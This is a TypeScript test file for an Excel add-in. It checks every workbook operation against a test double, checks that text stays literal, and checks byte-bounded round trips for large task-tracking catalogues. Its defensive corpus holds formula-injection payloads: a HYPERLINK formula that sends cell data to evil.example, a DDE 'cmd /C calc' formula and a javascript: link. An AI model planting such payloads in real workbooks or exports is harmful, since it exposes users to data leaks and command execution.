/**
 * applyPlan against the workbook double: every op kind does what it says, text stays literal,
 * and round trips stay within the byte budget for real plans of 55 to 50,000 assignment rows.
 */
import { applyPlan, ApplyError, type ApplyReport } from "../../../src/taskpane/excel/applyPlan";
import type { PlanCell, PlanOp, WorkbookPlan } from "../../../src/core/workbook/plan";
import { buildWorkbookPlan } from "../../../src/core/workbook/tracker";
import { defaultSettings } from "../../../src/core/workbook/evaluate";
import { buildModel } from "../../../src/core/workbook/model";
import { loadBundledCatalogue } from "../../../src/core/catalogue/bundled";
import { TABLES } from "../../../src/core/workbook/layout";
import type { Catalogue } from "../../../src/core/catalogue/types";
import type { WorkbookDouble } from "../../double/workbookDouble";
import {
  catalogueOf,
  catalogueWithRows,
  installDouble,
  REPORT_DATE,
  syncBudget,
  taskHeader,
} from "../../double/testkit";

const S = "Trang thử";

async function apply(d: WorkbookDouble, ops: PlanOp[]): Promise<ApplyReport> {
  return d.Excel.run((ctx) => applyPlan(ctx, { ops }));
}

const sheetOp: PlanOp = { op: "ensureSheet", sheet: S };
const tableOps: PlanOp[] = [
  sheetOp,
  {
    op: "writeCells",
    sheet: S,
    address: "B3",
    rows: [
      ["Mã", "Tên", "Số"],
      ["a", "Một", 1],
      ["b", "Hai", 2],
    ],
  },
  { op: "createTable", sheet: S, name: "Bang", address: "B3:D5", style: "TableStyleMedium2" },
];

interface OpCase {
  ops: PlanOp[];
  setup?: (d: WorkbookDouble) => Promise<void> | void;
  check: (d: WorkbookDouble, report: ApplyReport) => void;
}

/** One case per op kind (the Record type makes the list exhaustive at compile time). */
const CASES: Record<PlanOp["op"], OpCase> = {
  ensureSheet: {
    ops: [{ op: "ensureSheet", sheet: S, tabColor: "#107C41", activate: true }],
    check: (d, report) => {
      expect(d.workbook.sheetNames()).toContain(S);
      expect(d.workbook.sheet(S).tabColor).toBe("#107C41");
      expect(d.workbook.activeSheet()).toBe(S);
      expect(report.createdSheets).toEqual([S]);
    },
  },
  writeCells: {
    ops: [
      sheetOp,
      {
        op: "writeCells",
        sheet: S,
        address: "C2",
        rows: [
          ["chữ", 12.5, true, null],
          [
            { formula: "=1+1", cached: 2 },
            { hyperlink: "https://dichvucong.quangngai.gov.vn/a?b=1", text: "Minh chứng" },
            { hyperlink: "javascript:alert(1)", text: "xấu" },
            "x",
          ],
        ],
        style: { bold: true, horizontal: "center" },
      },
    ],
    check: (d) => {
      const s = d.workbook.sheet(S);
      expect(s.values("C2:F3")).toEqual([
        ["chữ", 12.5, true, ""],
        ["", "Minh chứng", "xấu", "x"],
      ]);
      expect(s.cell("C3")?.formula).toBe("=1+1");
      expect(s.cell("D3")?.hyperlink).toEqual({
        address: "https://dichvucong.quangngai.gov.vn/a?b=1",
        textToDisplay: "Minh chứng",
      });
      expect(s.cell("E3")?.hyperlink).toBeUndefined();
      expect(s.formats).toEqual([
        { address: "C2:F3", property: "font.bold", value: true },
        { address: "C2:F3", property: "horizontalAlignment", value: "Center" },
      ]);
    },
  },
  fillFormula: {
    ops: [
      sheetOp,
      { op: "fillFormula", sheet: S, address: "B2:B6", formula: "=ROW()*2", cached: [4, 6, 8, 10, 12] },
    ],
    check: (d) =>
      expect(d.workbook.sheet(S).formulas("B1:B7").flat()).toEqual([
        "",
        "=ROW()*2",
        "=ROW()*2",
        "=ROW()*2",
        "=ROW()*2",
        "=ROW()*2",
        "",
      ]),
  },
  numberFormat: {
    ops: [sheetOp, { op: "numberFormat", sheet: S, address: "C2:D4", format: "dd/mm/yyyy" }],
    check: (d) => {
      expect(d.workbook.sheet(S).numberFormats("C2:D4").flat()).toEqual(new Array(6).fill("dd/mm/yyyy"));
      expect(d.workbook.sheet(S).numberFormats("C5:D5").flat()).toEqual(["General", "General"]);
    },
  },
  style: {
    ops: [
      sheetOp,
      {
        op: "style",
        sheet: S,
        address: "A1:B2",
        style: {
          bold: false,
          italic: true,
          fontColor: "#C00000",
          fontSize: 14,
          fill: "#DDEBF7",
          wrap: true,
          horizontal: "right",
        },
      },
    ],
    check: (d) =>
      expect(d.workbook.sheet(S).formats.map((f) => [f.property, f.value, f.address])).toEqual([
        ["font.bold", false, "A1:B2"],
        ["font.italic", true, "A1:B2"],
        ["font.color", "#C00000", "A1:B2"],
        ["font.size", 14, "A1:B2"],
        ["fill.color", "#DDEBF7", "A1:B2"],
        ["wrapText", true, "A1:B2"],
        ["horizontalAlignment", "Right", "A1:B2"],
      ]),
  },
  mergeCells: {
    ops: [sheetOp, { op: "mergeCells", sheet: S, address: "A1:I1" }],
    check: (d) => expect(d.workbook.sheet(S).merges).toEqual(["A1:I1"]),
  },
  createTable: {
    ops: tableOps,
    check: (d) => {
      const t = d.workbook.table("Bang");
      expect([t.sheet, t.address, t.headers, t.rows, t.style]).toEqual([
        S,
        "B3:D5",
        ["Mã", "Tên", "Số"],
        [
          ["a", "Một", 1],
          ["b", "Hai", 2],
        ],
        "TableStyleMedium2",
      ]);
    },
  },
  appendTableRows: {
    ops: [
      ...tableOps,
      {
        op: "appendTableRows",
        table: "Bang",
        rows: [
          ["c", "Ba", 3],
          ["d", null, { formula: "=1", cached: 1 }],
        ],
      },
    ],
    check: (d) => {
      const t = d.workbook.table("Bang");
      expect(t.address).toBe("B3:D7");
      expect(t.formulas.slice(2)).toEqual([
        ["c", "Ba", 3],
        ["d", "", "=1"],
      ]);
    },
  },
  updateTableCells: {
    ops: [
      ...tableOps,
      { op: "updateTableCells", table: "Bang", row: 1, column: 1, rows: [["Hai mươi", 20]] },
    ],
    check: (d) =>
      expect(d.workbook.table("Bang").rows).toEqual([
        ["a", "Một", 1],
        ["b", "Hai mươi", 20],
      ]),
  },
  fillTableFormula: {
    ops: [
      ...tableOps,
      {
        op: "fillTableFormula",
        table: "Bang",
        column: 2,
        fromRow: 1,
        toRow: 1,
        formula: '=Bang[[#This Row],[Mã]]&"!"',
      },
    ],
    check: (d) =>
      expect(d.workbook.table("Bang").formulas.map((r) => r[2])).toEqual([1, '=Bang[[#This Row],[Mã]]&"!"']),
  },
  clearTableFilters: {
    setup: async (d) => {
      await apply(d, tableOps);
      d.workbook.filterTable("Bang", "Tên", ["Một"]);
    },
    ops: [
      sheetOp,
      { op: "clearTableFilters", table: "Bang" },
      { op: "updateTableCells", table: "Bang", row: 0, column: 2, rows: [[10]] },
    ],
    check: (d, report) => {
      expect(report.clearedFilters).toEqual(["Bang"]);
      expect(d.workbook.table("Bang").isFiltered).toBe(false);
      expect(d.workbook.table("Bang").rows[0]).toEqual(["a", "Một", 10]);
    },
  },
  defineName: {
    setup: (d) => d.workbook.addName("NgayBaoCao", "=Sheet1!$A$1"),
    ops: [
      sheetOp,
      { op: "defineName", name: "NgayBaoCao", sheet: S, address: "B3", comment: "Ngày báo cáo" },
      { op: "defineName", name: "DiemToiDa", sheet: S, address: "B10" },
    ],
    check: (d) =>
      expect(d.workbook.names()).toEqual([
        { name: "NgayBaoCao", formula: "='Trang thử'!$B$3", comment: "Ngày báo cáo" },
        { name: "DiemToiDa", formula: "='Trang thử'!$B$10", comment: "" },
      ]),
  },
  columnWidths: {
    ops: [
      sheetOp,
      {
        op: "columnWidths",
        sheet: S,
        widths: [
          { column: 0, width: 10 },
          { column: 3, width: 44 },
        ],
      },
    ],
    check: (d) => expect(d.workbook.sheet(S).columnWidths).toEqual({ 0: 65, 3: 286 }),
  },
  freezePanes: {
    ops: [
      sheetOp,
      { op: "freezePanes", sheet: S, rows: 5, columns: 1 },
      { op: "ensureSheet", sheet: "Khác" },
      { op: "freezePanes", sheet: "Khác", rows: 1 },
    ],
    check: (d) => {
      expect(d.workbook.sheet(S).freeze).toEqual({ rows: 5, columns: 1 });
      expect(d.workbook.sheet("Khác").freeze).toEqual({ rows: 1, columns: 0 });
    },
  },
  conditionalFormat: {
    ops: [
      sheetOp,
      {
        op: "conditionalFormat",
        sheet: S,
        address: "O2:O9",
        rule: { type: "textEquals", text: 'Quá "hạn"', fill: "#FFC7CE", fontColor: "#9C0006" },
      },
      {
        op: "conditionalFormat",
        sheet: S,
        address: "P2:P9",
        rule: { type: "textContains", text: "Thiếu minh chứng", fill: "#FFEB9C" },
      },
      {
        op: "conditionalFormat",
        sheet: S,
        address: "A2:P9",
        rule: { type: "formula", formula: '=$J2="Không"', fill: "#EDEDED", fontColor: "#7F7F7F" },
      },
    ],
    check: (d) =>
      expect(
        d.workbook
          .sheet(S)
          .conditionalFormats.map(({ address, type, rule, format }) => ({ address, type, rule, format })),
      ).toEqual([
        {
          address: "O2:O9",
          type: "CellValue",
          rule: { formula1: '="Quá ""hạn"""', operator: "EqualTo" },
          format: { fill: "#FFC7CE", fontColor: "#9C0006" },
        },
        {
          address: "P2:P9",
          type: "ContainsText",
          rule: { operator: "Contains", text: "Thiếu minh chứng" },
          format: { fill: "#FFEB9C" },
        },
        {
          address: "A2:P9",
          type: "Custom",
          rule: { formula: '=$J2="Không"' },
          format: { fill: "#EDEDED", fontColor: "#7F7F7F" },
        },
      ]),
  },
  clearConditionalFormats: {
    ops: [
      sheetOp,
      {
        op: "conditionalFormat",
        sheet: S,
        address: "O2:O9",
        rule: { type: "textContains", text: "x", fill: "#FFEB9C" },
      },
      {
        op: "conditionalFormat",
        sheet: S,
        address: "Z2:Z9",
        rule: { type: "textContains", text: "y", fill: "#FFEB9C" },
      },
      { op: "clearConditionalFormats", sheet: S, address: "A2:P20" },
    ],
    check: (d) => expect(d.workbook.sheet(S).conditionalFormats.map((c) => c.address)).toEqual(["Z2:Z9"]),
  },
  dataValidation: {
    ops: [
      sheetOp,
      {
        op: "dataValidation",
        sheet: S,
        address: "K2:K9",
        rule: {
          type: "list",
          values: ["Đã hoàn thành", "Đang thực hiện"],
          prompt: "Chọn",
          error: "Sai",
          strict: false,
        },
      },
      {
        op: "dataValidation",
        sheet: S,
        address: "L2:L9",
        rule: { type: "date", min: "2000-01-01", max: "2100-12-31", error: "Ngày" },
      },
      {
        op: "dataValidation",
        sheet: S,
        address: "B4",
        rule: { type: "decimal", min: 0, max: 366, error: "Số" },
      },
      { op: "dataValidation", sheet: S, address: "B5", rule: { type: "boolean", error: "TRUE/FALSE" } },
    ],
    check: (d) => {
      const dv = d.workbook.sheet(S).dataValidations;
      expect(dv.map((x) => [x.address, x.rule])).toEqual([
        ["K2:K9", { list: { inCellDropDown: true, source: "Đã hoàn thành,Đang thực hiện" } }],
        ["L2:L9", { date: { formula1: "2000-01-01", formula2: "2100-12-31", operator: "Between" } }],
        ["B4", { decimal: { formula1: 0, formula2: 366, operator: "Between" } }],
        ["B5", { list: { inCellDropDown: true, source: "TRUE,FALSE" } }],
      ]);
      expect(dv.map((x) => (x.errorAlert as { style: string }).style)).toEqual([
        "Warning",
        "Stop",
        "Stop",
        "Stop",
      ]);
      expect(dv[0].prompt).toEqual({ message: "Chọn", showPrompt: true, title: "Hướng dẫn" });
      expect(dv[1].prompt).toBeUndefined();
    },
  },
  chart: {
    ops: [
      sheetOp,
      {
        op: "writeCells",
        sheet: S,
        address: "A2",
        rows: [
          ["Sở Nội vụ", 0.5],
          ["Sở Tư pháp", 1],
        ],
      },
      {
        op: "chart",
        sheet: S,
        name: "CCHC_TyLeHoanThanh",
        kind: "barClustered",
        title: "Tỷ lệ",
        categories: "A2:A3",
        values: "B2:B3",
        seriesName: "Tỷ lệ hoàn thành",
        anchor: "J3",
        width: 560,
        height: 116,
      },
    ],
    check: (d) => {
      const [c] = d.workbook.sheet(S).charts;
      expect({ ...c, id: 0 }).toEqual({
        id: 0,
        name: "CCHC_TyLeHoanThanh",
        type: "BarClustered",
        source: "'Trang thử'!B2:B3",
        seriesBy: "Columns",
        series: [{ name: "Tỷ lệ hoàn thành", xValues: "A2:A3" }],
        title: "Tỷ lệ",
        legendVisible: false,
        valueAxis: { maximum: 1, minimum: 0, numberFormat: "0%" },
        position: { start: "J3", end: undefined },
        width: 560,
        height: 116,
      });
    },
  },
  pageSetup: {
    ops: [
      sheetOp,
      {
        op: "pageSetup",
        sheet: S,
        landscape: true,
        paper: "A4",
        printTitleRows: "$8:$8",
        fitToWidth: true,
        printArea: "A1:I20",
        centerFooter: "Trang &P/&N",
      },
    ],
    check: (d) =>
      expect(d.workbook.sheet(S).pageLayout).toEqual({
        orientation: "Landscape",
        paperSize: "A4",
        printTitleRows: "$8:$8",
        zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 },
        printArea: "A1:I20",
        centerFooter: "Trang &P/&N",
      }),
  },
  pivotTable: {
    ops: [
      ...tableOps,
      { op: "ensureSheet", sheet: "Pivot" },
      {
        op: "pivotTable",
        sheet: "Pivot",
        name: "PivotBang",
        sourceTable: "Bang",
        anchor: "A3",
        rows: ["Tên"],
        columns: ["Mã"],
        values: [{ field: "Số", summarizeBy: "count" }],
        filters: [
          { field: "Mã", values: ["b"] },
          { field: "Số", values: [] },
        ],
      },
    ],
    check: (d, report) => {
      expect(d.workbook.pivots()).toEqual([
        {
          name: "PivotBang",
          source: "Bang",
          destination: "Pivot!A3",
          rows: ["Tên"],
          columns: ["Mã"],
          data: [{ field: "Số", summarizeBy: "Count" }],
          filters: [{ field: "Mã", selected: ["b"] }, { field: "Số" }],
        },
      ]);
      expect(report.pivotFiltersToPick).toEqual([]);
    },
  },
  autoFilter: {
    ops: [...tableOps, { op: "autoFilter", table: "Bang", column: 1, values: ["Hai"] }],
    check: (d) =>
      expect([d.workbook.table("Bang").filters, d.workbook.table("Bang").isFiltered]).toEqual([
        { 1: ["Hai"] },
        true,
      ]),
  },
};

describe("every op kind", () => {
  test.each(Object.entries(CASES))("%s", async (_kind, c) => {
    const d = installDouble();
    await c.setup?.(d);
    const report = await apply(d, c.ops);
    c.check(d, report);
  });

  test("ensureSheet on an existing sheet with clear: cells and the named chart go, other charts stay, nothing is created", async () => {
    const d = installDouble();
    await apply(d, [
      ...CASES.chart.ops,
      {
        op: "chart",
        sheet: S,
        name: "Của người dùng",
        kind: "barClustered",
        title: "x",
        categories: "A2:A3",
        values: "B2:B3",
        seriesName: "s",
        anchor: "J30",
        width: 10,
        height: 10,
      },
    ]);
    const report = await apply(d, [
      { op: "ensureSheet", sheet: S, clear: true, charts: ["CCHC_TyLeHoanThanh", "Không có"] },
    ]);
    expect(report.createdSheets).toEqual([]);
    expect(d.workbook.sheet(S).usedAddress()).toBeNull();
    expect(d.workbook.sheet(S).charts.map((c) => c.name)).toEqual(["Của người dùng"]);
  });

  test.each<[string, PlanOp]>([
    [
      "appendTableRows",
      {
        op: "appendTableRows",
        table: "Bang",
        rows: [["c", { hyperlink: "https://ex.vn/mc/1.pdf", text: "https://ex.vn/mc/1.pdf" }, 3]],
      },
    ],
    [
      "updateTableCells",
      {
        op: "updateTableCells",
        table: "Bang",
        row: 1,
        column: 1,
        rows: [[{ hyperlink: "https://ex.vn/mc/1.pdf", text: "https://ex.vn/mc/1.pdf" }]],
      },
    ],
  ])("a link cell written by %s becomes a hyperlink, as in writeCells", async (_via, op) => {
    const d = installDouble();
    await apply(d, [...tableOps, op]);
    const t = d.workbook.table("Bang");
    const row = op.op === "appendTableRows" ? 2 : 1;
    expect(t.rows[row][1]).toBe("https://ex.vn/mc/1.pdf");
    expect(d.workbook.sheet(S).cell(`C${4 + row}`)?.hyperlink).toEqual({
      address: "https://ex.vn/mc/1.pdf",
      textToDisplay: "https://ex.vn/mc/1.pdf",
    });
  });

  test("clearTableFilters on an unfiltered table reports nothing", async () => {
    const d = installDouble();
    const report = await apply(d, [...tableOps, { op: "clearTableFilters", table: "Bang" }]);
    expect(report.clearedFilters).toEqual([]);
  });

  test("an unknown op throws (ApplyError) and writes nothing after it", async () => {
    const d = installDouble();
    const ops = [
      sheetOp,
      { op: "explode", sheet: S } as unknown as PlanOp,
      { op: "writeCells", sheet: S, address: "A1", rows: [["x"]] } as PlanOp,
    ];
    const err = await apply(d, ops).then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(ApplyError);
    expect(String((err as ApplyError).cause)).toMatch(/Unknown plan op .*explode/);
    expect(d.workbook.sheetNames()).not.toContain(S);
  });

  test("an op on a sheet no ensureSheet named throws", async () => {
    const d = installDouble();
    await expect(apply(d, [{ op: "writeCells", sheet: "Lạ", address: "A1", rows: [["x"]] }])).rejects.toThrow(
      ApplyError,
    );
  });

  test("calculation is suspended in every write batch", async () => {
    const d = installDouble();
    const report = await d.Excel.run((ctx) =>
      applyPlan(ctx, { ops: CASES.writeCells.ops }, { chunkBytes: 300 }),
    );
    expect(report.syncs).toBeGreaterThan(2);
    expect(d.workbook.calcSuspensions()).toBe(report.syncs - 1);
  });
});

// ───────────────────────────── text stays text ─────────────────────────────

/** Formula-injection and coercion payloads: each must be read back exactly as written. */
const CORPUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "=cmd|' /C calc'!A0",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  " =1",
  "\n=1",
  "\r=1",
  "30/11/2024",
  "2024-11-30",
  "TRUE",
  "false",
  "0123",
  "1.5",
  "50%",
  "1e5",
  "'already quoted",
  "''two",
  "=",
  "-",
  "- Rà soát, đơn giản hóa thủ tục",
  "−1",
  "Quý IV/2024",
];

describe("text stays literal", () => {
  const rows: PlanCell[][] = CORPUS.map((t) => [t]);

  test.each<[string, (d: WorkbookDouble) => Promise<unknown>, (d: WorkbookDouble) => unknown[]]>([
    [
      "writeCells",
      (d) => apply(d, [sheetOp, { op: "writeCells", sheet: S, address: "B2", rows }]),
      (d) =>
        d.workbook
          .sheet(S)
          .values(`B2:B${CORPUS.length + 1}`)
          .flat(),
    ],
    [
      "appendTableRows",
      (d) =>
        apply(d, [...tableOps, { op: "appendTableRows", table: "Bang", rows: CORPUS.map((t) => [t, t, t]) }]),
      (d) => d.workbook.table("Bang").rows.slice(2).flat(),
    ],
    [
      "updateTableCells",
      (d) =>
        apply(d, [
          ...tableOps,
          { op: "appendTableRows", table: "Bang", rows: CORPUS.map(() => ["x", "y", 0]) },
          { op: "updateTableCells", table: "Bang", row: 2, column: 0, rows: CORPUS.map((t) => [t, t, t]) },
        ]),
      (d) => d.workbook.table("Bang").rows.slice(2).flat(),
    ],
  ])(
    "through %s, every payload reads back as the same text (no formula, no number)",
    async (_via, run, read) => {
      const d = installDouble();
      await run(d);
      const got = read(d);
      const want = got.length === CORPUS.length ? CORPUS : CORPUS.flatMap((t) => [t, t, t]);
      expect(got).toEqual(want);
      expect(got.every((v) => typeof v === "string")).toBe(true);
      // No cell of the sheet holds a formula.
      const sheet = (
        d.workbook.snapshot() as { sheets: Array<{ name: string; cells: unknown[][] }> }
      ).sheets.find((s) => s.name === S);
      expect(sheet?.cells.filter((c) => c[3] !== null)).toEqual([]);
    },
  );

  test("a hostile catalogue: ids, titles, leads and deadlines that look like formulas, numbers or dates stay text in both tables", async () => {
    const hostile = CORPUS.map((t) => t.trim()).filter((t) => t !== "" && t !== "=" && t !== "-");
    const catalogue = catalogueOf(
      hostile.map((t, i) => ({
        id: ["1", "1.1", "0123", "TRUE", "30/11/2024", "+1"][i % 6] + (i >= 6 ? `.${i}` : ""),
        area: "I" as const,
        title: t,
        lead: "Sở Nội vụ",
        output: t,
        deadline: i % 2 === 0 ? "30/11/2024" : "Quý IV/2024",
      })),
    );
    const d = installDouble();
    const { plan } = buildWorkbookPlan({
      catalogue,
      settings: defaultSettings(REPORT_DATE),
      reportDateIsToday: false,
      loadedFrom: "=evil()",
      loadedAt: "2024-11-30T08:00:00.000Z",
    });
    await d.Excel.run((ctx) => applyPlan(ctx, plan));
    const t = d.workbook.table(TABLES.tasks);
    const col = (h: string) => t.rows.map((r) => r[t.headers.indexOf(h)]);
    expect(col(taskHeader("id"))).toEqual(catalogue.tasks.map((x) => x.id));
    expect(col(taskHeader("title"))).toEqual(catalogue.tasks.map((x) => x.title));
    expect(col(taskHeader("output"))).toEqual(catalogue.tasks.map((x) => x.output ?? ""));
    expect(col(taskHeader("deadline"))).toEqual(catalogue.tasks.map((x) => x.deadline));
    expect(col(taskHeader("due")).every((v) => typeof v === "number")).toBe(true);
    const a = d.workbook.table(TABLES.assignments);
    expect(a.rows.map((r) => r[0])).toEqual(buildModel(catalogue).assignments.map((x) => x.taskId));
    expect(a.rows.map((r) => r[1])).toEqual(buildModel(catalogue).assignments.map((x) => x.title));
    // "Nạp từ" on Cấu hình is text too.
    expect(d.workbook.sheet("Cấu hình").values("B29")).toEqual([["=evil()"]]);
  });
});

// ───────────────────────────── round trips ─────────────────────────────

function wholePlan(catalogue: Catalogue, progress = false): WorkbookPlan {
  const model = buildModel(catalogue);
  return buildWorkbookPlan({
    catalogue,
    settings: defaultSettings(REPORT_DATE),
    reportDateIsToday: true,
    loadedFrom: catalogue.id,
    loadedAt: "2024-11-30T08:00:00.000Z",
    progress: progress
      ? model.assignments.map((a, i) => ({
          taskId: a.taskId,
          unit: a.unit,
          status: "Đã hoàn thành",
          completedOn: "15/11/2024",
          evidence: `https://tailieu.quangngai.gov.vn/cchc/2024/minh-chung/${i}.pdf`,
          note: "Đã gửi Sở Nội vụ",
        }))
      : undefined,
  }).plan;
}

describe("round trips are bounded by bytes", () => {
  const sizes: Array<[string, () => Promise<Catalogue> | Catalogue]> = [
    ["55 rows", () => catalogueWithRows(55)],
    ["demo-2024 (1,954 rows)", () => loadBundledCatalogue("demo-2024")],
    ["5,000 rows", () => catalogueWithRows(5000)],
    ["50,000 rows", () => catalogueWithRows(50000)],
  ];

  test.each(sizes)(
    "%s: syncs ≤ 3 + ceil(bytes / 4 MB), every request and response < 5 MB, the adapter's count matches",
    async (_label, make) => {
      const catalogue = await make();
      const plan = wholePlan(catalogue);
      const d = installDouble();
      const report = await d.Excel.run((ctx) => applyPlan(ctx, plan));
      expect(d.stats.syncs).toBe(report.syncs);
      expect(d.stats.syncs).toBeLessThanOrEqual(syncBudget(d.stats.totalBytes()));
      expect(d.stats.maxRequestBytes()).toBeLessThan(5_000_000);
      expect(d.stats.maxResponseBytes()).toBeLessThan(5_000_000);
      expect(d.stats.perSync.every((s) => !s.failed)).toBe(true);
      // Everything arrived: both tables have every row.
      expect(d.workbook.table(TABLES.assignments).rows.length).toBe(buildModel(catalogue).assignments.length);
      expect(d.workbook.table(TABLES.tasks).rows.length).toBe(catalogue.tasks.length);
    },
    120_000,
  );

  test.each<[string, number]>([
    ["5,000", 5000],
    ["50,000", 50000],
  ])(
    "%s rows whose evidence is a link each: every request stays < 5 MB",
    async (_label, n) => {
      const plan = wholePlan(catalogueWithRows(n), true);
      const d = installDouble();
      const report = await d.Excel.run((ctx) => applyPlan(ctx, plan));
      expect(d.workbook.sheet("Phân công").cell("M2")?.hyperlink?.address).toMatch(/^https:\/\/tailieu/);
      expect(report.maxRequestBytes).toBeLessThan(5_000_000); // the adapter's own estimate
      expect(d.stats.maxRequestBytes()).toBeLessThan(5_000_000); // what the double measured
    },
    120_000,
  );
});
